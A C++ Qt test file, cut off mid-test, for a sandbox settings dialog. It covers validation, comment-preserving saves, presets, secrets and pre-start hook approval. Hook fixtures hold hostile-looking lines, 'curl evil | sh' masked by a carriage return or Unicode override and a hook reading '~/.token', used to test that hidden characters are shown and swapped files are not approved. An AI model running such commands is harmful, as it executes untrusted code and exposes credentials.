// The project settings dialog: fields checked as they are typed with the config's rules
// (Save disabled while anything is wrong), saving through ConfigFile::save keeps comments
// and unknown keys, comments that cannot be kept are shown before saving, presets, the
// environment table never shows a value, the hook can be approved, and a saved change that
// needs a restart offers one.

#include "config/configfile.h"
#include "guitest.h"
#include "hookapprovaldialog.h"
#include "network/policyfiles.h"
#include "sandbox/prestarthook.h"
#include "sandbox/sandboxrecord.h"
#include "sandbox/startapproval.h"
#include "secrets/secretstore.h"
#include "secretspage.h"
#include "settingsdialog.h"
#include "testhelpers.h"
#include "ui_settingsdialog.h"

#include <QAbstractButton>
#include <QCheckBox>
#include <QComboBox>
#include <QDialogButtonBox>
#include <QDirIterator>
#include <QFile>
#include <QInputDialog>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QRadioButton>
#include <QSignalSpy>
#include <QSpinBox>
#include <QTableWidget>
#include <QTest>
#include <QTextBlock>
#include <QTextLayout>
#include <QToolButton>

using namespace ocs;
using namespace ocs::test;
using ocs::tray::SecretsPage;
using ocs::tray::SettingsDialog;

namespace {

QByteArray readAll(const QString &path)
{
    QFile f(path);
    f.open(QIODevice::ReadOnly);
    return f.readAll();
}

// Puts the cursor at the end of the editor and types `text` (Return for '\n').
void typeAtEnd(QPlainTextEdit *edit, const QString &text)
{
    edit->setFocus();
    QTextCursor c = edit->textCursor();
    c.movePosition(QTextCursor::End);
    edit->setTextCursor(c);
    for (QChar ch : text) {
        if (ch == QLatin1Char('\n'))
            QTest::keyClick(edit, Qt::Key_Return);
        else
            QTest::keyClicks(edit, QString(ch));
    }
}

bool lineIsMarked(QPlainTextEdit *edit, int blockNumber)
{
    const QTextBlock b = edit->document()->findBlockByNumber(blockNumber);
    for (const QTextLayout::FormatRange &r : b.layout()->formats()) {
        if (r.format.underlineStyle() == QTextCharFormat::WaveUnderline)
            return true;
    }
    return false;
}

const QByteArray RoundTripYaml = "# Settings of the round-trip project (this comment stays)\n"
                                 "sandbox-name: roundtrip # inline comment on the name\n"
                                 "\n"
                                 "# Domains the agent may reach\n"
                                 "http-domain-whitelist:\n"
                                 "  - api.example.test\n"
                                 "\n"
                                 "x-team-note: keep this unknown key # and its comment\n"
                                 "\n"
                                 "host-ports:\n"
                                 "  - 5432\n"
                                 "env:\n"
                                 "  GREETING: hello world\n";

QString secretCell(const SecretsPage *page, const QString &name, int column)
{
    const QTableWidget *t = page->table();
    for (int r = 0; r < t->rowCount(); ++r) {
        if (t->item(r, SecretsPage::ColName)->text() == name)
            return t->item(r, column)->text();
    }
    return QStringLiteral("<no row %1>").arg(name);
}

// Fills in and submits the Add dialog of the Secrets tab; returns the dialog.
QDialog *addSecret(SecretsPage *page, const QString &name, const QString &hosts = QString(),
                   const QString &header = QString())
{
    page->addButton()->click();
    QDialog *add = page->pendingDialog();
    if (!add || add->objectName() != QLatin1String("addSecretDialog"))
        return nullptr;
    add->findChild<QComboBox *>(QStringLiteral("nameCombo"))->setEditText(name);
    if (!hosts.isEmpty())
        add->findChild<QLineEdit *>(QStringLiteral("hostsEdit"))->setText(hosts);
    if (!header.isEmpty())
        add->findChild<QLineEdit *>(QStringLiteral("headerEdit"))->setText(header);
    add->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
    return add;
}

} // namespace

class TestSettingsDialog : public QObject
{
    Q_OBJECT
private:
    static FakeEngine *engine() { return static_cast<FakeEngine *>(&ProcessLauncher::instance()); }
    static void accept(QMessageBox *box)
    {
        for (QAbstractButton *b : box->buttons()) {
            if (box->buttonRole(b) == QMessageBox::AcceptRole) {
                b->click();
                return;
            }
        }
        QFAIL("no accepting button");
    }

private Q_SLOTS:
    void badValuesAreFlaggedWhileTyping()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("typing"));
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        auto *ui = dlg->form();
        QVERIFY(dlg->isLoaded());
        QVERIFY(dlg->saveButton()->isEnabled());
        QVERIFY(dlg->problems().isEmpty());
        QCOMPARE(ui->sandboxIdValue->text(), app.fleet->sandbox(root)->sandboxId());

        // A domain with a space: flagged at once, the line marked, Save disabled.
        typeAtEnd(ui->whitelistEdit, QStringLiteral("good.example.test\nbad domain.test"));
        QVERIFY(!dlg->saveButton()->isEnabled());
        QVERIFY(!ui->whitelistError->isHidden());
        QVERIFY2(ui->whitelistError->text().contains(QStringLiteral("line 2")),
                 qPrintable(ui->whitelistError->text()));
        QVERIFY(ui->whitelistError->text().contains(QStringLiteral("space")));
        QVERIFY(!lineIsMarked(ui->whitelistEdit, 0));
        QVERIFY(lineIsMarked(ui->whitelistEdit, 1));
        QVERIFY(!ui->tabs->tabIcon(ui->tabs->indexOf(ui->networkTab)).isNull());
        QVERIFY(!ui->problemsLabel->text().isEmpty());

        // A URL instead of a domain: the rule's own advice.
        ui->whitelistEdit->setPlainText(QStringLiteral("https://api.example.test/v1"));
        QVERIFY(ui->whitelistError->text().contains(QStringLiteral("api.example.test")));
        QVERIFY(!dlg->saveButton()->isEnabled());

        // Fixed: enabled again, nothing marked.
        ui->whitelistEdit->setPlainText(QStringLiteral("api.example.test\n*.cdn.example.test"));
        QVERIFY(dlg->saveButton()->isEnabled());
        QVERIFY(!lineIsMarked(ui->whitelistEdit, 0) && !lineIsMarked(ui->whitelistEdit, 1));
        QCOMPARE(
            dlg->editedConfig().httpDomainWhitelist,
            (QStringList{QStringLiteral("api.example.test"), QStringLiteral(".cdn.example.test")}));

        // Name, ports, limits.
        ui->nameEdit->clear();
        QTest::keyClicks(ui->nameEdit, QStringLiteral("Bad_Name"));
        QVERIFY(!dlg->saveButton()->isEnabled());
        QVERIFY(!ui->nameError->text().isEmpty());
        QCOMPARE(ui->sandboxIdValue->text(), QStringLiteral("—"));
        ui->nameEdit->setText(QStringLiteral("good-name"));
        QCOMPARE(ui->sandboxIdValue->text(), computeSandboxId(QStringLiteral("good-name"), root));
        QVERIFY(dlg->saveButton()->isEnabled());

        typeAtEnd(ui->hostPortsEdit, QStringLiteral("5432\n70000"));
        QVERIFY(!dlg->saveButton()->isEnabled());
        QVERIFY(ui->hostPortsError->text().contains(QStringLiteral("line 2")));
        ui->hostPortsEdit->setPlainText(QStringLiteral("5432"));
        QVERIFY(dlg->saveButton()->isEnabled());

        QTest::keyClicks(ui->pidsEdit, QStringLiteral("12"));
        QVERIFY(!dlg->saveButton()->isEnabled());
        QVERIFY(ui->limitsError->text().contains(QStringLiteral("Process limit")));
        ui->pidsEdit->setText(QStringLiteral("512"));
        QTest::keyClicks(ui->memoryEdit, QStringLiteral("lots"));
        QVERIFY(!dlg->saveButton()->isEnabled());
        ui->memoryEdit->setText(QStringLiteral("4g"));
        QVERIFY2(dlg->saveButton()->isEnabled(),
                 qPrintable(dlg->problems().join(QLatin1Char('\n'))));

        // Environment: a bad name in the table.
        ui->addPassthroughButton->click();
        const int row = ui->passthroughTable->rowCount() - 1;
        ui->passthroughTable->item(row, 0)->setText(QStringLiteral("1BAD"));
        QVERIFY(!dlg->saveButton()->isEnabled());
        QVERIFY(ui->envError->text().contains(QStringLiteral("row 1")));
        ui->passthroughTable->item(row, 0)->setText(QStringLiteral("API_KEY"));
        QVERIFY(dlg->saveButton()->isEnabled());
        dlg->close();
    }

    void passthroughShowsWhetherSetNeverTheValue()
    {
        GuiTestEnvironment env;
        qputenv("OCS_GUI_TEST_SECRET", "s3cr3t-value-never-shown");
        const QString root =
            env.makeProject(QStringLiteral("envs"),
                            "sandbox-name: envs\nenv-passthrough:\n  TOKEN: OCS_GUI_TEST_SECRET\n"
                            "  OTHER: OCS_GUI_TEST_SURELY_UNSET\n");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        QTableWidget *t = dlg->form()->passthroughTable;
        QCOMPARE(t->rowCount(), 2);
        QCOMPARE(t->item(0, 2)->text(), QStringLiteral("set"));
        QCOMPARE(t->item(1, 2)->text(), QStringLiteral("not set"));
        for (QWidget *w : dlg->findChildren<QWidget *>()) {
            if (auto *l = qobject_cast<QLabel *>(w))
                QVERIFY(!l->text().contains(QStringLiteral("s3cr3t")));
        }
        for (int r = 0; r < t->rowCount(); ++r)
            for (int c = 0; c < t->columnCount(); ++c)
                QVERIFY(!t->item(r, c)->text().contains(QStringLiteral("s3cr3t")) &&
                        !t->item(r, c)->toolTip().contains(QStringLiteral("s3cr3t")));
        qunsetenv("OCS_GUI_TEST_SECRET");
        dlg->close();
    }

    void saveKeepsCommentsAndUnknownKeys()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("roundtrip"), RoundTripYaml);
        const QString path = root + QStringLiteral("/opencode-sandbox-config.yaml");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        QSignalSpy saved(dlg, &SettingsDialog::saved);
        auto *ui = dlg->form();
        QCOMPARE(ui->whitelistEdit->toPlainText(), QStringLiteral("api.example.test"));
        typeAtEnd(ui->whitelistEdit, QStringLiteral("\nnew.example.test"));
        ui->memoryEdit->setText(QStringLiteral("4g"));
        ui->startWithAppCheck->setChecked(true);
        QVERIFY(dlg->saveButton()->isEnabled());
        dlg->saveButton()->click();
        if (QMessageBox *q = dlg->pendingQuestion())
            QFAIL(qPrintable(QStringLiteral("unexpected question: ") + q->text() +
                             q->detailedText()));
        QCOMPARE(saved.count(), 1);

        const QByteArray text = readAll(path);
        QVERIFY2(text.contains("# Settings of the round-trip project (this comment stays)"), text);
        QVERIFY2(text.contains("# Domains the agent may reach"), text);
        QVERIFY2(text.contains("x-team-note: keep this unknown key # and its comment"), text);
        QVERIFY2(text.contains("# inline comment on the name"), text);
        QVERIFY2(text.contains("GREETING: hello world"), text);
        const auto loaded = ConfigFile::load(path);
        QVERIFY2(loaded.ok(), qPrintable(loaded.errorSummary()));
        QCOMPARE(
            loaded.config->httpDomainWhitelist,
            (QStringList{QStringLiteral("api.example.test"), QStringLiteral("new.example.test")}));
        QCOMPARE(loaded.config->memoryLimit, QStringLiteral("4g"));
        QCOMPARE(loaded.config->hostPorts, QList<quint16>{5432});
        QVERIFY(loaded.config->unknownKeys.contains(QStringLiteral("x-team-note")));
        QVERIFY(app.registry->appSettings(root).startWithApp);

        const auto impact = saved.first().first().value<ConfigImpact>();
        QVERIFY(impact.needsRestart); // memory-limit
        QVERIFY(!impact.needsRebuild);
        QVERIFY(impact.appliedLive); // the whitelist
        QCOMPARE(impact.liveKeys, QStringList{QStringLiteral("http-domain-whitelist")});
        QVERIFY(impact.changedKeys.contains(QStringLiteral("http-domain-whitelist")));
        QVERIFY(impact.changedKeys.contains(QStringLiteral("memory-limit")));
    }

    void commentsThatCannotBeKeptAreShownFirst()
    {
        GuiTestEnvironment env;
        const QByteArray yaml = "sandbox-name: dropping\n"
                                "http-domain-whitelist:\n"
                                "  - old.example.test # why we allowed old.example.test\n"
                                "  - keep.example.test\n";
        const QString root = env.makeProject(QStringLiteral("dropping"), yaml);
        const QString path = root + QStringLiteral("/opencode-sandbox-config.yaml");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        QSignalSpy saved(dlg, &SettingsDialog::saved);
        dlg->form()->whitelistEdit->setPlainText(QStringLiteral("keep.example.test"));
        QStringList dropped;
        ConfigFile::render(yaml, dlg->editedConfig(), &dropped);
        if (dropped.isEmpty())
            QSKIP("the config writer keeps this comment; nothing to show");
        dlg->saveButton()->click();
        QMessageBox *q = dlg->pendingQuestion();
        QVERIFY(q);
        QVERIFY(q->isVisible());
        QVERIFY2(q->detailedText().contains(QStringLiteral("why we allowed")),
                 qPrintable(q->detailedText()));
        QCOMPARE(readAll(path), yaml); // nothing written yet
        QCOMPARE(saved.count(), 0);
        // "Save anyway"
        for (QAbstractButton *b : q->buttons()) {
            if (q->buttonRole(b) == QMessageBox::AcceptRole) {
                b->click();
                break;
            }
        }
        QCOMPARE(saved.count(), 1);
        QVERIFY(!readAll(path).contains("old.example.test"));
        QVERIFY(readAll(path).contains("keep.example.test"));
    }

    void brokenConfigIsReadOnly()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("broken"),
                                             "sandbox-name: broken\nhost-ports:\n  - not-a-port\n");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        QVERIFY(!dlg->isLoaded());
        QVERIFY(!dlg->form()->tabs->isEnabled());
        QVERIFY(!dlg->saveButton()->isEnabled());
        QVERIFY2(dlg->form()->problemsLabel->text().contains(
                     QStringLiteral("opencode-sandbox-config.yaml:3")),
                 qPrintable(dlg->form()->problemsLabel->text()));
    }

    void presets()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("presets"));
        // A stand-in `npm` on PATH; the fake answers for it.
        const QString bin = env.path(QStringLiteral("bin"));
        QDir().mkpath(bin);
        QFile npm(bin + QStringLiteral("/npm"));
        npm.open(QIODevice::WriteOnly);
        npm.write("#!/bin/sh\nexit 1\n");
        npm.close();
        npm.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        const QByteArray oldPath = qgetenv("PATH");
        qputenv("PATH", bin.toUtf8() + ':' + oldPath);
        QByteArray npmAnswer = "https://npm.mirror.example.test/\n";
        engine()->setResponder(
            [&npmAnswer](const ProcessSpec &spec) -> std::optional<ProcessResult> {
                if (spec.program.endsWith(QStringLiteral("/npm")))
                    return exitWith(0, npmAnswer);
                return std::nullopt;
            });
        qputenv("PIP_INDEX_URL", "https://pypi.mirror.example.test/simple/");

        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        QMenu *menu = dlg->form()->presetButton->menu();
        QVERIFY(menu);
        auto trigger = [menu](const QString &id) {
            for (QAction *a : menu->actions()) {
                if (a->data().toString() == id) {
                    a->trigger();
                    return true;
                }
            }
            return false;
        };
        QVERIFY(trigger(QStringLiteral("anthropic")));
        QVERIFY(
            dlg->editedConfig().httpDomainWhitelist.contains(QStringLiteral("api.anthropic.com")));
        QVERIFY(trigger(QStringLiteral("github")));
        QVERIFY(dlg->editedConfig().httpDomainWhitelist.contains(QStringLiteral(".github.com")));
        QVERIFY(trigger(QStringLiteral("npm")));
        QTRY_VERIFY(dlg->editedConfig().httpDomainWhitelist.contains(
            QStringLiteral("npm.mirror.example.test")));
        QVERIFY(trigger(QStringLiteral("pypi")));
        QTRY_VERIFY(dlg->editedConfig().httpDomainWhitelist.contains(
            QStringLiteral("pypi.mirror.example.test")));
        // Adding a preset twice adds nothing twice.
        QVERIFY(trigger(QStringLiteral("anthropic")));
        QCOMPARE(dlg->editedConfig().httpDomainWhitelist.count(QStringLiteral("api.anthropic.com")),
                 1);

        // npm without a registry: the user is asked.
        npmAnswer = "undefined\n";
        QVERIFY(trigger(QStringLiteral("npm")));
        QInputDialog *input = nullptr;
        QTRY_VERIFY((input = dlg->findChild<QInputDialog *>()) != nullptr);
        QTRY_VERIFY(input->isVisible());
        input->setTextValue(QStringLiteral("registry.corp.example.test"));
        input->accept();
        QTRY_VERIFY(dlg->editedConfig().httpDomainWhitelist.contains(
            QStringLiteral("registry.corp.example.test")));
        QVERIFY(dlg->saveButton()->isEnabled());

        qputenv("PATH", oldPath);
        qunsetenv("PIP_INDEX_URL");
    }

    void hookCanBeApproved()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("hooked"));
        QFile hook(root + QStringLiteral("/opencode-sandbox-pre-start-container.sh"));
        hook.open(QIODevice::WriteOnly);
        hook.write("#!/usr/bin/env bash\nexport TOKEN=$(cat ~/.token)\n");
        hook.close();
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        ManagedSandbox *s = app.fleet->sandbox(root);
        QCOMPARE(s->hookStatus(), PreStartHook::Status::NotApproved);
        app.flush();
        QVERIFY(
            app.tray->projectMenu(root)->problemAction()->text().contains(QStringLiteral("hook")));
        SettingsDialog *dlg = app.tray->openSettings(s);
        auto *ui = dlg->form();
        QVERIFY(ui->hookView->toPlainText().contains(QStringLiteral("export TOKEN")));
        QVERIFY(ui->hookView->isReadOnly());
        QVERIFY(ui->hookStatusLabel->text().startsWith(QStringLiteral("Not approved")));
        QVERIFY(ui->approveHookButton->isEnabled());
        ui->approveHookButton->click();
        QVERIFY(ui->hookStatusLabel->text().startsWith(QStringLiteral("Approved")));
        QVERIFY(!ui->approveHookButton->isEnabled());
        QCOMPARE(s->hookStatus(), PreStartHook::Status::Approved);
    }

    void hookTabShowsHiddenCharactersAndApprovesOnlyWhatItShows()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("hidden"));
        const QString hookPath = root + QStringLiteral("/opencode-sandbox-pre-start-container.sh");
        auto writeHook = [&](const QByteArray &content) {
            QFile hook(hookPath);
            QVERIFY(hook.open(QIODevice::WriteOnly | QIODevice::Truncate));
            hook.write(content);
        };
        const QByteArray shown = "curl evil | sh #\recho harmless\necho \xe2\x80\xae"
                                 "olleh\n";
        writeHook(shown);
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        ManagedSandbox *s = app.fleet->sandbox(root);
        SettingsDialog *dlg = app.tray->openSettings(s);
        auto *ui = dlg->form();
        const QString text = ui->hookView->toPlainText();
        QVERIFY2(text.contains(QStringLiteral("curl evil | sh #\\recho harmless")),
                 qPrintable(text));
        QVERIFY2(text.contains(QStringLiteral("echo <U+202E>olleh")), qPrintable(text));
        QVERIFY(!text.contains(QChar(0x202e)));
        QVERIFY2(ui->hookStatusLabel->text().contains(QStringLiteral("control or invisible")),
                 qPrintable(ui->hookStatusLabel->text()));

        // The file changes behind the dialog's back: Approve approves nothing.
        const QByteArray swapped = "curl evil2 | sh\n";
        writeHook(swapped);
        ui->approveHookButton->click();
        QVERIFY(dlg->pendingQuestion());
        QVERIFY2(
            dlg->pendingQuestion()->text().contains(QStringLiteral("changed after it was shown")),
            qPrintable(dlg->pendingQuestion()->text()));
        dlg->pendingQuestion()->close();
        s->reloadProject();
        QCOMPARE(s->hookStatus(), PreStartHook::Status::NotApproved);
        // The tab now shows the new content; approving that works.
        QVERIFY(ui->hookView->toPlainText().contains(QStringLiteral("curl evil2")));
        ui->approveHookButton->click();
        QCOMPARE(s->hookStatus(), PreStartHook::Status::Approved);
    }

    void hookApprovalDialogApprovesOnlyWhatItShows()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("dialog"));
        const QString hookPath = root + QStringLiteral("/opencode-sandbox-pre-start-container.sh");
        auto writeHook = [&](const QByteArray &content) {
            QFile hook(hookPath);
            QVERIFY(hook.open(QIODevice::WriteOnly | QIODevice::Truncate));
            hook.write(content);
        };
        writeHook("export A=1\x1b[2K\n");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        ManagedSandbox *s = app.fleet->sandbox(root);
        auto *dlg = new ocs::tray::HookApprovalDialog(*s->project());
        QSignalSpy approved(dlg, &ocs::tray::HookApprovalDialog::approved);
        auto *view = dlg->findChild<QPlainTextEdit *>(QStringLiteral("content"));
        QVERIFY(view);
        QCOMPARE(view->toPlainText(), QStringLiteral("export A=1\\x1b[2K\n"));
        writeHook("export A=1\ncurl evil | sh\n");
        dlg->findChild<QPushButton *>(QStringLiteral("approve"))->click();
        QCOMPARE(approved.size(), 0);
        s->reloadProject();
        QCOMPARE(s->hookStatus(), PreStartHook::Status::NotApproved);
        dlg->close();
    }

    void savingWhileRunningOffersRestart()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("live"));
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        ManagedSandbox *s = app.fleet->sandbox(root);
        engine()->addImage(s->project()->imageName());
        s->start();
        QTRY_COMPARE_WITH_TIMEOUT(s->state(), ManagedSandbox::State::Running, 10000);
        SettingsDialog *dlg = app.tray->openSettings(s);
        dlg->form()->hostPortsEdit->setPlainText(QStringLiteral("5433"));
        dlg->saveButton()->click();
        QTRY_VERIFY(s->configOutdated());
        QMessageBox *q = app.tray->lastQuestion();
        QVERIFY(q);
        QVERIFY2(q->text().contains(QStringLiteral("host-ports")), qPrintable(q->text()));
        const int runsBefore = engine()->count({QStringLiteral("run")});
        const int stopsBefore = engine()->count({QStringLiteral("stop")});
        accept(q);
        // The start shows what the change lets the sandbox reach and asks first.
        QTRY_VERIFY(app.tray->lastQuestion() && app.tray->lastQuestion() != q);
        QMessageBox *confirm = app.tray->lastQuestion();
        QVERIFY2(confirm->text().contains(QStringLiteral("+ host port: 5433")),
                 qPrintable(confirm->text()));
        QCOMPARE(engine()->count({QStringLiteral("run")}), runsBefore);
        accept(confirm);
        QTRY_COMPARE_WITH_TIMEOUT(engine()->count({QStringLiteral("run")}), runsBefore + 1, 10000);
        QCOMPARE(engine()->count({QStringLiteral("stop")}), stopsBefore + 1);
        QTRY_COMPARE_WITH_TIMEOUT(s->state(), ManagedSandbox::State::Running, 10000);
        QVERIFY(!s->configOutdated());
        // The container now carries the new config's hash.
        const auto containers = engine()->containers();
        QCOMPARE(containers.size(), 1);
        QCOMPARE(containers.first().labels.value(ContainerEngine::LabelConfigHash),
                 SandboxController::configHash(s->project()->config()));
    }

    // Issue 11: the whitelist is applied to the running sandbox's policy files; no restart,
    // and what the user typed is not asked about again at the next start.
    void savingTheWhitelistWhileRunningAppliesItLive()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("live"));
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        ManagedSandbox *s = app.fleet->sandbox(root);
        engine()->addImage(s->project()->imageName());
        s->start();
        QTRY_COMPARE_WITH_TIMEOUT(s->state(), ManagedSandbox::State::Running, 10000);
        QMessageBox *before = app.tray->lastQuestion();
        const int runsBefore = engine()->count({QStringLiteral("run")});
        SettingsDialog *dlg = app.tray->openSettings(s);
        dlg->form()->whitelistEdit->setPlainText(QStringLiteral("added.example.test"));
        dlg->saveButton()->click();
        const QString whitelist =
            policyfiles::policyDir(s->project()->stateDir()) + QStringLiteral("/whitelist");
        QTRY_COMPARE(readAll(whitelist), QByteArray("added.example.test\n"));
        QTest::qWait(300);
        QVERIFY(!s->configOutdated());
        QCOMPARE(app.tray->lastQuestion(), before); // no restart offered
        QCOMPARE(engine()->count({QStringLiteral("run")}), runsBefore);
        QVERIFY(!app.tray->notifications().isEmpty());
        QVERIFY2(app.tray->notifications().last().text.contains(QStringLiteral("Applied live")),
                 qPrintable(app.tray->notifications().last().text));
        QCOMPARE(StartApproval::describeChanges(
                     SandboxRecord::load(s->project()->stateDir()).lastStartedConfig,
                     s->project()->config()),
                 QStringList{});
    }

    void renamingWhileRunningMovesToTheNewId()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("oldname"));
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        ManagedSandbox *s = app.fleet->sandbox(root);
        const QString oldId = s->sandboxId();
        engine()->addImage(s->project()->imageName());
        engine()->addImage(QStringLiteral("opencode-sandbox-") +
                           computeSandboxId(QStringLiteral("newname"), root));
        s->start();
        QTRY_COMPARE_WITH_TIMEOUT(s->state(), ManagedSandbox::State::Running, 10000);
        SettingsDialog *dlg = app.tray->openSettings(s);
        dlg->form()->nameEdit->setText(QStringLiteral("newname"));
        dlg->saveButton()->click();
        // The running container still belongs to the old ID until it is stopped.
        QCOMPARE(s->sandboxId(), oldId);
        QVERIFY(s->configOutdated());
        QMessageBox *q = app.tray->lastQuestion();
        QVERIFY(q);
        for (QAbstractButton *b : q->buttons()) {
            if (q->buttonRole(b) == QMessageBox::AcceptRole) {
                b->click();
                break;
            }
        }
        QTRY_COMPARE_WITH_TIMEOUT(s->sandboxId(), computeSandboxId(QStringLiteral("newname"), root),
                                  10000);
        // A new sandbox-name is a new SANDBOX_ID: its first start shows what it may reach and
        // asks (issue 10, item 7); nothing runs before the answer.
        QTRY_VERIFY_WITH_TIMEOUT(app.tray->lastQuestion() &&
                                     app.tray->lastQuestion()->windowTitle().contains(
                                         QStringLiteral("for the first time")),
                                 10000);
        QCOMPARE(engine()->containers().size(), 0);
        QMessageBox *first = app.tray->lastQuestion();
        QVERIFY2(first->text().contains(QStringLiteral("whitelist")), qPrintable(first->text()));
        for (QAbstractButton *b : first->buttons()) {
            if (first->buttonRole(b) == QMessageBox::AcceptRole) {
                b->click();
                break;
            }
        }
        QTRY_COMPARE_WITH_TIMEOUT(s->state(), ManagedSandbox::State::Running, 10000);
        const auto containers = engine()->containers();
        QCOMPARE(containers.size(), 1); // the old one was stopped and removed
        QCOMPARE(containers.first().labels.value(ContainerEngine::LabelId), s->sandboxId());
    }

    // Issue 12: Settings → Secrets. Add… by a preset's variable name fills in its hosts and
    // header; Save writes injected-secrets through ConfigFile::save (comments kept), which
    // needs a restart.
    void secretsAddByPresetWritesTheConfig()
    {
        GuiTestEnvironment env;
        const QByteArray yaml = "# team settings (this comment stays)\n"
                                "sandbox-name: secrets\n"
                                "http-domain-whitelist:\n"
                                "  - api.anthropic.com\n";
        const QString root = env.makeProject(QStringLiteral("secrets"), yaml);
        const QString path = root + QStringLiteral("/opencode-sandbox-config.yaml");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        auto *ui = dlg->form();
        SecretsPage *page = dlg->secretsPage();
        QVERIFY(page);
        QVERIFY(ui->tabs->indexOf(page) >= 0);
        QCOMPARE(ui->tabs->tabText(ui->tabs->indexOf(page)).remove(QLatin1Char('&')),
                 QStringLiteral("Secrets"));
        QCOMPARE(page->table()->rowCount(), 0);
        QVERIFY(!page->setValueButton()->isEnabled()); // nothing selected

        page->addButton()->click();
        QDialog *add = page->pendingDialog();
        QVERIFY(add);
        add->findChild<QComboBox *>(QStringLiteral("nameCombo"))
            ->setEditText(QStringLiteral("ANTHROPIC_API_KEY"));
        QCOMPARE(add->findChild<QLineEdit *>(QStringLiteral("hostsEdit"))->text(),
                 QStringLiteral("api.anthropic.com"));
        QCOMPARE(add->findChild<QLineEdit *>(QStringLiteral("headerEdit"))->text(),
                 QStringLiteral("x-api-key"));
        add->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
        QTRY_VERIFY(!page->pendingDialog() || !page->pendingDialog()->isVisible());
        QCOMPARE(page->table()->rowCount(), 1);
        QCOMPARE(secretCell(page, QStringLiteral("ANTHROPIC_API_KEY"), SecretsPage::ColHosts),
                 QStringLiteral("api.anthropic.com"));
        QCOMPARE(secretCell(page, QStringLiteral("ANTHROPIC_API_KEY"), SecretsPage::ColHeader),
                 QStringLiteral("x-api-key"));
        QVERIFY2(dlg->saveButton()->isEnabled(),
                 qPrintable(dlg->problems().join(QLatin1Char('\n'))));
        QCOMPARE(readAll(path), yaml); // nothing written before Save

        QSignalSpy saved(dlg, &SettingsDialog::saved);
        dlg->saveButton()->click();
        if (QMessageBox *q = dlg->pendingQuestion())
            QFAIL(qPrintable(QStringLiteral("unexpected question: ") + q->text() +
                             q->detailedText()));
        QCOMPARE(saved.count(), 1);
        const QByteArray text = readAll(path);
        QVERIFY2(text.contains("# team settings (this comment stays)"), text);
        QVERIFY2(text.contains("injected-secrets:"), text);
        const auto loaded = ConfigFile::load(path);
        QVERIFY2(loaded.ok(), qPrintable(loaded.errorSummary()));
        QCOMPARE(loaded.config->injectedSecrets.size(), 1);
        const InjectedSecret &s = loaded.config->injectedSecrets.first();
        QCOMPARE(s.name, QStringLiteral("ANTHROPIC_API_KEY"));
        QCOMPARE(s.hosts, QStringList{QStringLiteral("api.anthropic.com")});
        QCOMPARE(s.header.toLower(), QStringLiteral("x-api-key"));
        QCOMPARE(s.preset, QStringLiteral("anthropic"));
        const auto impact = saved.first().first().value<ConfigImpact>();
        QVERIFY(impact.needsRestart);
        QVERIFY(impact.changedKeys.contains(QStringLiteral("injected-secrets")));
    }

    // A secret's hosts must be whitelisted and its name set nowhere else; a bad header is
    // refused in the Add dialog. Remove takes it out of the config again.
    void secretsAreCheckedLikeTheConfig()
    {
        GuiTestEnvironment env;
        const QString root =
            env.makeProject(QStringLiteral("checked"), "sandbox-name: checked\n"
                                                       "env:\n"
                                                       "  MY_SERVICE_TOKEN: literal\n");
        const QString path = root + QStringLiteral("/opencode-sandbox-config.yaml");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        auto *ui = dlg->form();
        SecretsPage *page = dlg->secretsPage();

        // A header that is no header: refused, nothing added.
        QDialog *add = addSecret(page, QStringLiteral("MY_SERVICE_TOKEN"),
                                 QStringLiteral("api.service.test"), QStringLiteral("Bad Header"));
        QVERIFY(add);
        QVERIFY(add->isVisible());
        auto *error = add->findChild<QLabel *>(QStringLiteral("errorLabel"));
        QVERIFY(error && !error->isHidden());
        QVERIFY2(error->text().contains(QStringLiteral("Header")), qPrintable(error->text()));
        QCOMPARE(page->table()->rowCount(), 0);
        // A wildcard host neither.
        add->findChild<QLineEdit *>(QStringLiteral("headerEdit"))
            ->setText(QStringLiteral("Authorization: Bearer {}"));
        add->findChild<QLineEdit *>(QStringLiteral("hostsEdit"))
            ->setText(QStringLiteral("*.service.test"));
